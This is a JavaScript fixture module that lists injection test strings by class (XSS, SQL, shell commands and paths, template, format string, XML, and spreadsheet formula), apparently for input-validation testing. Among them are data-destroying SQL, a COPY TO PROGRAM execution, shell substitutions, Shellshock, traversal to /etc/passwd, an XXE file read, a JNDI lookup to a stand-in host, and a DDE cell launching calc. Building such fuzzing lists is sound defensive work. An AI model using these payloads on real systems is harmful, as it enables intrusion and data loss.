// Classes of injection in OWASP's Web Security Testing Guide (4.7, "Input Validation Testing", and
// 4.11.1 and 4.11.2 for scripts) and in OWASP's page "CSV Injection"; the strings are from memory.

const SCRIPTS = [
  ...["<script>alert(1)</script>", "<ScRiPt >alert(1)</sCrIpT>", '"><script>alert(1)</script>'],
  ...["'><img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)//"],
  ...["</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>"],
  ...["</script><script>alert(1)</script>", "javascript:alert(1)", "JaVaScRiPt:alert(1)//"],
  ...['" onfocus=alert(1) autofocus="', "' onmouseover='alert(1)", "` onload=`alert(1)"],
  ...["<iframe srcdoc='<script>alert(1)</script>'>", "<!--<script>-->", "<![CDATA[<b>]]>"],
  ...["<a href=javascript:alert(1)>x</a>", "<base href=//a.example>", "<style>*{x:y}</style>"],
  ...[
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&amp;amp;",
    "&nbsp",
    "<",
    ">",
    "&",
    '"',
    "'",
    "`",
    "=",
  ],
  ...["\u003cb\u003e", "%3Cscript%3E", "\\u003cscript\\u003e", "<\u0131mg>", "\uff1cscript\uff1e"],
  ...["<math><mtext></table><b>", "<meta http-equiv=refresh content=0>", "<plaintext>"],
];

const SQL = [
  ...["' OR '1'='1", "1; DROP TABLE customer;--", "'; SELECT pg_sleep(9);--", "\\'; --", "/* */ x"],
  ...[
    "' UNION SELECT NULL--",
    '") OR ("1"="1',
    "$$; SELECT 1 $$",
    "E'\\\\x41'",
    "Robert');--",
    "?",
  ],
  ...[
    "%",
    "_",
    "100%_",
    "\\",
    "\\%",
    "$1",
    "$1::text",
    ":name",
    "?::text",
    "';COPY x TO PROGRAM 'id'",
  ],
];

const COMMANDS = [
  ...["$(id)", "`id`", "; id", "&& id", "> /tmp/x", "$HOME", "%PATH%", "~"],
  ...[
    "-rf",
    "--help",
    "*",
    "{a,b}",
    "\\$(id)",
    "() { :;}; id",
    "../../etc/passwd",
    "..\\..\\x",
    "/",
    ".",
  ],
  ...["..", "C:\\CON", "NUL", "file:///etc/passwd", "//a.example/x", "http://127.0.0.1/", "%00"],
];

const TEMPLATES = [
  ...[
    "{{7*7}}",
    "$" + "{7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{%x%}",
    "[[7*7]]",
    "@(7*7)",
    "*{7*7}",
    "$" + "{{7*7}}",
  ],
  ...["{{{this}}}", "{{#each this}}x{{/each}}", "{{> frame}}", "{{constructor.constructor}}", "{{"],
  ...[
    "{{lookup this 'constructor'}}",
    "{{@root}}",
    "{{!-- x --}}",
    "}}",
    "{{#with this as |x|}}{{x}}",
  ],
  ...[
    "{{t 'form.save'}}",
    "\\{{this}}",
    "$" + "{jndi:ldap://a.example/x}",
    "{name}",
    "{0}",
    "{count, plural}",
  ],
];

const FORMATS = [
  ...[
    "%s%s%s%n",
    "%x %p %d",
    "%1$s",
    "%%",
    "%c%c",
    "%5000d",
    "%j %o %O",
    "$&",
    "$`",
    "$'",
    "$$",
    "$<x>",
  ],
  ...["(a+)+$", "[", "(", "^.*$", "*)(uid=*))(|(uid=*", '{"$gt":""}', "x' or name()='y"],
  ...[
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///x">]>&e;',
    "]]>",
    "<?xml?>",
    "x%0d%0aSet-Cookie: a=b",
  ],
];

const CELLS = [
  ...[
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://a.example")',
    "-",
  ],
  ...[
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
    "'=1+1",
    "''=1",
    "\t=1",
    "\r=1",
    " =1+1",
    ";=1+1",
  ],
  ...[
    "a,b",
    "a;b",
    'a"b',
    '"a"',
    '""',
    ',"',
    "a\tb",
    "a\r\nb",
    "a\nb",
    '"\n=1',
    "+44 20 7946 0000",
    "a\r=1",
  ],
];

export const INJECTIONS = {
  ...{ scripts: SCRIPTS, "SQL and patterns": SQL, "commands and paths": COMMANDS },
  ...{ templates: TEMPLATES, "formats and queries": FORMATS, "spreadsheet cells": CELLS },
};
